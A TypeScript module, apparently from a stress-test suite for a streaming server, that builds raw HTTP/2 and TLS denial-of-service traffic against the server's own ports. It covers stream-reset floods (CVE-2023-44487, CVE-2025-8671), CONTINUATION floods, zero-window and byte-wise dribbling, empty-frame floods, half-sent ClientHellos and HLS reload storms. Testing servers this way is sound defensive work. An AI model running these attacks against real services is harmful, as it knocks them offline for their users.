import { randomBytes } from 'node:crypto';
import type { TLSSocket } from 'node:tls';
import { publishTo, times, type Attack, type Mob, type Target } from './attacks.ts';
import {
  END_HEADERS,
  END_STREAM,
  field,
  frame,
  FRAME,
  get,
  INITIAL_WINDOW,
  KEPT,
  keptField,
  MOST,
  PREFACE,
  requestFields,
  reset,
  settings,
  windowUpdate,
} from './http2-frames.ts';

/** What peers do by TLS and by HTTP/2 that mean harm. `live/show` is there, with HLS. */

export interface SecureTarget extends Target {
  readonly rtmpsPort: number;
  readonly httpsPort: number;
  /** URLs of segments that are there now, the newest last. */
  readonly segments: () => readonly string[];
  /** Media sequence number of the segment after the one that is being made. */
  readonly nextMsn: () => number;
}

const H2 = { ALPNProtocols: ['h2'] };
const http2 = (mob: Mob, port: number, ...bytes: Buffer[]): TLSSocket =>
  mob.openTls(port, Buffer.concat([PREFACE, ...bytes]), H2);
/** Identifiers of a client's streams are odd. */
const streams = (count: number): number[] => Array.from({ length: count }, (_, index) => 2 * index + 1);

/** Of answers nothing is taken. */
const TAKES_NOTHING = settings([INITIAL_WINDOW, 0]);
/** All may be sent at once. */
const TAKES_ALL = Buffer.concat([settings([INITIAL_WINDOW, MOST]), windowUpdate(0, MOST - 65_535)]);

/** As many requests as one connection may have under way. */
const hundredOf = (...paths: readonly string[]): Buffer =>
  Buffer.concat(streams(100).map((id, index) => get(id, paths[index % paths.length]!)));

const FLV = '/live/show.flv';
const PAGES = [
  '/',
  '/metrics',
  '/api/v1/openapi.json',
  '/api/v1/streams',
  '/api/v1/server',
  '/api/v1/events',
];

function windowsOfNothing(mob: Mob, { httpsPort, segments }: SecureTarget): void {
  times(10, () =>
    http2(mob, httpsPort, TAKES_NOTHING, hundredOf(FLV, '/live/show/media.m3u8', ...segments())),
  );
  times(10, () => http2(mob, httpsPort, TAKES_NOTHING, hundredOf(...PAGES)));
}

/** Five hundred. */
export function viewersThatDoNotRead(mob: Mob, httpsPort: number): void {
  times(5, () => http2(mob, httpsPort, TAKES_ALL, hundredOf(FLV)).pause());
}

function unread(mob: Mob, { httpsPort, segments }: SecureTarget): void {
  const newest = segments().at(-1)!;
  times(10, () => http2(mob, httpsPort, TAKES_ALL, hundredOf(...segments())).pause());
  viewersThatDoNotRead(mob, httpsPort);
  times(100, () => mob.openTls(httpsPort, `GET ${newest} HTTP/1.1\r\nHost: g\r\n\r\n`).pause());
}

/** Again and again, on a few connections at a time: most of them are ended for it. */
function again(mob: Mob, attack: (count: number) => void): void {
  let count = 0;
  mob.every(50, () => {
    if (mob.sockets.size < 20) attack(count++);
  });
}

/** Asked for, and given up at once or made to be given up by us (CVE-2023-44487, CVE-2025-8671). */
function givenUp(mob: Mob, { httpsPort, segments }: SecureTarget): void {
  const newest = segments().at(-1)!;
  const tooMuch = (id: number): Buffer => Buffer.concat([windowUpdate(id, MOST), windowUpdate(id, MOST)]);
  again(mob, (count) => {
    const end = count % 2 === 0 ? reset : tooMuch;
    http2(mob, httpsPort, TAKES_NOTHING, ...streams(1_000).flatMap((id) => [get(id, newest), end(id)]));
  });
}

/** Headers without an end (CVE-2024-27316), and those that are long only when they are unpacked. */
function headers(mob: Mob, { httpsPort }: SecureTarget): void {
  const more = frame({ type: FRAME.continuation, stream: 1 }, field('x', 'y'.repeat(100)));
  const begun = frame({ type: FRAME.headers, stream: 1 }, requestFields('/'));
  const packed = Buffer.concat([keptField('x', 'y'.repeat(4_000)), Buffer.alloc(12_000, KEPT)]);
  const many = Buffer.concat(Array.from({ length: 60 }, (_, index) => field(`x-${index}`, 'y'.repeat(200))));
  const request = (stream: number, path: string, fields: Buffer): Buffer =>
    frame(
      { type: FRAME.headers, flags: END_HEADERS | END_STREAM, stream },
      Buffer.concat([requestFields(path), fields]),
    );
  times(10, () =>
    http2(mob, httpsPort, settings(), ...streams(100).map((id) => request(id, '/live/no.flv?wait=60', many))),
  );
  again(mob, () => {
    mob.pour(http2(mob, httpsPort, settings(), begun), more);
    http2(mob, httpsPort, settings(), ...streams(100).map((id) => request(id, '/', packed)));
  });
}

function floods(mob: Mob, { httpsPort, segments }: SecureTarget): void {
  const pieces = [
    settings([INITIAL_WINDOW, 0], [INITIAL_WINDOW, 65_535]),
    frame({ type: FRAME.ping }, Buffer.alloc(8)),
    frame({ type: FRAME.priority, stream: 3 }, Buffer.from([0, 0, 0, 1, 5])),
    frame({ type: 0xbb, stream: 1 }, Buffer.alloc(10)),
  ];
  // A byte at a time (CVE-2019-9511).
  const bytewise = settings([INITIAL_WINDOW, 1]);
  const dribble = Buffer.concat(streams(100).map((id) => windowUpdate(id, 1)));
  times(5, () => mob.pour(http2(mob, httpsPort, bytewise, hundredOf(segments().at(-1)!)), dribble, 16_384));
  again(mob, () => {
    for (const piece of pieces) mob.pour(http2(mob, httpsPort, settings(), get(1, FLV)), piece, 16_384);
  });
}

/** Requests whose bodies come a byte at a time, or as frames with nothing in them (CVE-2019-9518). */
function endlessBodies(mob: Mob, { httpsPort }: SecureTarget): void {
  const fields = requestFields('/api/v1/playback', 'POST');
  const begun = streams(100).map((stream) =>
    frame({ type: FRAME.headers, flags: END_HEADERS, stream }, fields),
  );
  const bytes = Buffer.concat(
    streams(100).map((stream) => frame({ type: FRAME.data, stream }, Buffer.from('x'))),
  );
  times(10, () => {
    const socket = http2(mob, httpsPort, settings(), ...begun);
    mob.every(100, () => socket.writable && socket.write(bytes));
  });
  const nothing = frame({ type: FRAME.data, stream: 1 });
  times(3, () => mob.pour(http2(mob, httpsPort, settings(), begun[0]!), nothing, 16_384));
}

/** The head of a ClientHello and nothing after it. */
const HALF_HELLO = Buffer.from('1603010200010001fc0303', 'hex');

function unfinished(mob: Mob, { rtmpsPort, httpsPort }: SecureTarget): void {
  times(2_000, (index) =>
    mob.open(index % 2 === 0 ? httpsPort : rtmpsPort, index % 3 === 0 ? '' : HALF_HELLO),
  );
  mob.every(20, () => times(Math.min(20, 4_000 - mob.sockets.size), () => mob.open(httpsPort, HALF_HELLO)));
  times(200, (index) => mob.openTls(httpsPort, PREFACE.subarray(0, index % 24), H2));
}

function nonsense(mob: Mob, { rtmpPort, httpPort, rtmpsPort, httpsPort }: SecureTarget): void {
  const name = `${'a'.repeat(60)}.${'b'.repeat(60)}`;
  mob.every(25, () => {
    if (mob.sockets.size > 300) for (const socket of [...mob.sockets].slice(0, 100)) socket.destroy();
    mob.open(httpsPort, 'GET / HTTP/1.1\r\nHost: g\r\n\r\n');
    for (const port of [rtmpsPort, httpsPort]) {
      mob.open(port, publishTo('noise'));
      mob.open(port, Buffer.concat([Buffer.from('160301', 'hex'), randomBytes(2_000)]));
      mob.openTls(port, randomBytes(2_000));
      mob.openTls(port, '', { servername: name, ALPNProtocols: ['spdy/3', 'x'.repeat(200)] });
    }
    mob.openTls(httpPort);
    mob.openTls(rtmpPort);
    mob.openTls(httpsPort, randomBytes(2_000), H2);
  });
}

/** 10,000 requests for what is yet to come, on 100 connections that are dropped at once and come again. */
function blockedReloads(mob: Mob, { httpsPort, nextMsn }: SecureTarget): void {
  const come = (): void => {
    const next = `/live/show/media.m3u8?_HLS_msn=${nextMsn()}`;
    const paths = [0, 1, 2].map((part) => `${next}&_HLS_part=${part}`);
    times(100, () => http2(mob, httpsPort, TAKES_NOTHING, hundredOf(...paths)));
  };
  come();
  mob.every(600, () => {
    for (const socket of mob.sockets) socket.destroy();
    come();
  });
}

/** By name, in the order in which they are tried. */
export const TLS_ATTACKS: Readonly<Record<string, Attack<SecureTarget>>> = {
  '2,000 answers of which nothing is taken': windowsOfNothing,
  '1,600 answers that may be sent at once and are not read': unread,
  'requests that are given up': givenUp,
  'headers without an end, and larger than they look': headers,
  'frames that nobody needs': floods,
  'bodies without an end': endlessBodies,
  'handshakes and prefaces that are not finished': unfinished,
  'what has no business at a port': nonsense,
  '10,000 blocked reloads that are dropped at once': blockedReloads,
};
